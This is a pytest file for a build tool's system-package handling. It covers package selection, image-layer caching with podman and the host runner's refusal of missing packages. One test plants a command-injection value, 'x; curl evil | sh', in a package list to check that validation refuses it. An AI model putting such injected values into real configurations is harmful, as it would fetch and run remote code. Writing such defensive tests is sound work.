"""A recipe's system_packages (design.md §8.5): the container runner's package layer over the builder
image (a real podman build from Debian's mirror, then a cache hit), and the host runner's one-line
refusal when this machine lacks a package."""

from __future__ import annotations

import re
import subprocess
from pathlib import Path

import pytest
from farmcli import PROJECT, run_farm
from hostile import assert_one_line_refusal, assert_recipe_check_refuses, tree_state

from farm import progress
from farm.errors import BadInput
from farm.platforms import host_arch
from farm.runners import images, syspkgs
from farm.runners.container import ContainerRunner
from farm.runners.engine import Engine, Mount, ensure_engine

HEADER = "/usr/include/google/dense_hash_map"   # what torchsparse's compile missed
ABSENT = "farm-test-surely-absent-package"


# ----- no engine needed ---------------------------------------------------------------


def test_the_packages_of_the_image_manager_are_taken_sorted_and_other_managers_refused():
    both = {"apt": ("zlib1g-dev", "libsparsehash-dev", "zlib1g-dev"), "dnf": ("sparsehash-devel",)}
    assert syspkgs.wanted(both, "apt", "recipes/x.yml") == ("libsparsehash-dev", "zlib1g-dev")
    assert syspkgs.wanted({}, "apt", "recipes/x.yml") == ()
    with pytest.raises(BadInput) as refused:
        syspkgs.wanted({"dnf": ("sparsehash-devel",)}, "apt", "recipes/x.yml")
    assert str(refused.value).startswith("recipes/x.yml: system_packages: ") and "no apt packages" in str(refused.value)


def test_the_layer_key_follows_builder_manager_and_package_set_and_nothing_else():
    key = syspkgs.layer_key("sha256:aa", "apt", ("b", "a"))
    assert key == syspkgs.layer_key("sha256:aa", "apt", ("a", "b"))
    assert len({key, syspkgs.layer_key("sha256:bb", "apt", ("a", "b")), syspkgs.layer_key("sha256:aa", "dnf", ("a", "b")),
                syspkgs.layer_key("sha256:aa", "apt", ("a",))}) == 4
    text = syspkgs.dockerfile("localhost/farm-builder:x86_64-abc", "apt", ("libsparsehash-dev",))
    assert text.startswith("FROM localhost/farm-builder:x86_64-abc\nRUN ")
    assert "apt-get install -y -qq --no-install-recommends libsparsehash-dev &&" in text
    assert "rm -rf /var/lib/apt/lists/*" in text


def test_a_package_name_that_is_not_one_is_refused_by_the_recipe_check(tmp_path):
    assert_recipe_check_refuses(
        tmp_path, "name: pkg\nsource:\n  path: .\nlinks_torch: true\n"
                  "system_packages:\n  apt: [libsparsehash-dev, 'x; curl evil | sh']\n",
        "system_packages.apt[1]: 'x; curl evil | sh': expected one package name")


def test_the_package_list_is_in_the_build_key_whatever_its_order(tmp_path):
    from farm.build.buildkey import KeyMaker
    from farm.policy import load_defaults
    from farm.recipes.reader import load_recipe

    head = "name: {name}\nsource:\n  path: .\nlinks_torch: true\n"
    bodies = {"none": "", "one": "system_packages:\n  apt: [libsparsehash-dev]\n",
              "two": "system_packages:\n  apt: [libsparsehash-dev, zlib1g-dev]\n",
              "dnf": "system_packages:\n  apt: [libsparsehash-dev]\n  dnf: [sparsehash-devel]\n",
              "reordered": "system_packages:\n  apt: [zlib1g-dev, libsparsehash-dev]\n"}
    defaults, recipes = load_defaults(), {}
    for name, body in bodies.items():
        (tmp_path / f"{name}.yml").write_text(head.format(name=name) + body)
        recipes[name] = load_recipe(tmp_path / f"{name}.yml", defaults)
    assert recipes["dnf"].build_relevant()["system_packages"] == {"apt": ["libsparsehash-dev"],
                                                                   "dnf": ["sparsehash-devel"]}
    keys = KeyMaker(defaults, recipes)
    assert len({keys.recipe_digest(n) for n in recipes}) == len(bodies)
    # (the digests also hold each recipe's name) the order the file lists them in is no input
    assert recipes["reordered"].build_relevant()["system_packages"] == recipes["two"].build_relevant()["system_packages"]


def demo_needing_an_absent_package(tmp_path) -> Path:
    """A recipes folder whose farm_demo needs a package no host has (skips without dpkg or rpm)."""
    if syspkgs.host_manager() is None:
        pytest.skip("this host has neither dpkg nor rpm")
    recipes = tmp_path / "recipes"
    recipes.mkdir()
    demo = (PROJECT / "recipes" / "farm_demo.yml").read_text()
    demo = demo.replace("path: ../examples/farm-demo", f"path: {PROJECT / 'examples' / 'farm-demo'}")
    (recipes / "farm_demo.yml").write_text(demo + f"system_packages:\n  apt: [{ABSENT}]\n  dnf: [{ABSENT}]\n")
    return recipes


def test_the_host_runner_refuses_a_cell_whose_system_package_is_missing_before_any_work(tmp_path):
    recipes = demo_needing_an_absent_package(tmp_path)
    out, house = tmp_path / "out", tmp_path / "wheelhouse"
    before = tree_state(tmp_path)
    res = run_farm("build", "farm_demo-cu130-torch2.13-py311", "--runner", "host", "--no-publish", "--out", str(out),
                   env={"FARM_RECIPES": str(recipes), "FARM_WHEELHOUSE": str(house)}, timeout=120)
    line = assert_one_line_refusal(res, 2, f"farm_demo.yml: system_packages: ['{ABSENT}']: not installed on this host")
    assert "--runner container" in line
    assert tree_state(tmp_path) == before   # no out folder, no wheelhouse: refused before any work


def test_farm_run_on_the_host_runner_counts_a_recipe_missing_a_system_package_as_unbuildable_once(tmp_path):
    recipes = demo_needing_an_absent_package(tmp_path)
    res = run_farm("run", "--package", "farm_demo", "--cuda", "13.0", "--torch", "2.13", "--platform", "linux",
                   "--runner", "host", "--dry-run", "--plain", "--wheelhouse", str(tmp_path / "wheelhouse"),
                   env={"FARM_RECIPES": str(recipes)}, timeout=120)
    assert res.returncode == 0, res.stdout + res.stderr
    # the refusal farm build would print per cell, said once for the row with its count, not as failed cells
    lines = [ln for ln in res.stdout.splitlines() if ln.startswith("[farm run] unbuildable here")]
    assert len(lines) == 1, res.stdout
    assert re.search(rf"\d+ cells \(4: .*farm_demo.yml: system_packages: \['{ABSENT}'\]: not installed on this host",
                     lines[0]), lines[0]
    assert "0 to build" in res.stdout and "[farm run] cells: none selected" in res.stdout


# ----- a real layer over the cached builder image ----------------------------------------


@pytest.fixture(scope="module")
def engine() -> Engine:
    return ensure_engine()


@pytest.mark.slow
@pytest.mark.container
def test_the_layer_installs_the_package_once_and_is_a_cache_hit_after(engine, monkeypatch, tmp_path):
    builder = images.ensure_builder(host_arch(), engine, quiet=True)
    assert builder.package_manager == "apt"
    # A package set no recipe has (rapidjson-dev rides along), so a real build running beside the test
    # cannot hold this layer: an earlier run's layer goes and this one builds (a few seconds).
    pkgs = ("libsparsehash-dev", "rapidjson-dev")
    subprocess.run([engine.exe, "rmi", syspkgs.layer_ref(host_arch(), syspkgs.layer_key(builder.id, "apt", pkgs))],
                   capture_output=True)
    seen: list[progress.Event] = []
    with progress.using(seen.append):
        layer = syspkgs.ensure_layer(engine, builder, pkgs)
    assert layer.ref.startswith(f"{syspkgs.LAYER_REPO}:{host_arch()}-") and layer.id == engine.image_id(layer.ref)
    assert layer.id != builder.id and layer.builder_id == builder.id and layer.key == builder.key
    assert engine.image_labels(layer.ref)["farm.layer-of"] == builder.id
    # Run through the engine wrapper (create/start/wait): the header is in the layer, not in the builder.
    engine.output(layer.ref, ["test", "-f", HEADER], network=False)
    with pytest.raises(Exception, match="exited 1"):
        engine.output(builder.ref, ["test", "-f", HEADER], network=False)
    # Shown like the builder image's build: its own step, counting the build's steps.
    assert [e.kind for e in seen if e.step == "image packages" and e.kind != "progress"] == ["start", "end"]
    assert any(e.kind == "progress" and e.unit == "steps" for e in seen if e.step == "image packages")

    def no_build(*a, **k):
        raise AssertionError("the package layer was rebuilt although its builder and packages did not change")

    monkeypatch.setattr(Engine, "build", no_build)
    again = syspkgs.ensure_layer(engine, builder, pkgs)
    assert (again.ref, again.id) == (layer.ref, layer.id)
    # The container runner runs a recipe's steps in that layer and its record names it.
    runner = ContainerRunner(arch=host_arch(), engine=engine, image=builder, entrypoint="header_probe")
    runner.provide_system_packages({"apt": pkgs, "dnf": ("sparsehash-devel",)}, "recipes/torchsparse.yml")
    described = runner.describe()
    assert (described["image_ref"], described["image_id"]) == (layer.ref, layer.id)
    assert described["layer_of"] == builder.ref and described["system_packages"] == list(pkgs)
    # A step (offline, with the builder's tools venv) sees the header; in the builder image it does not.
    probe = tmp_path / "probe"
    probe.mkdir()
    (probe / "header_probe.py").write_text("import os, sys\nsys.exit(0 if os.path.exists(sys.argv[1]) else 3)\n")
    mounts = [*runner.standard_mounts(tmp_path / "work", tmp_path / "out", caches={}),
              Mount(probe, "/farm/probe", read_only=True)]
    step = runner.run_step([HEADER], {"PYTHONPATH": "/farm/probe"}, mounts, network=False, log_path=tmp_path / "a.log")
    assert step.exit_code == 0, step.log_path.read_text()[-2000:]
    runner.provide_system_packages({}, "recipes/farm_demo.yml")
    assert runner.image == builder
    step = runner.run_step([HEADER], {"PYTHONPATH": "/farm/probe"}, mounts, network=False, log_path=tmp_path / "b.log")
    assert step.exit_code == 3, step.log_path.read_text()[-2000:]
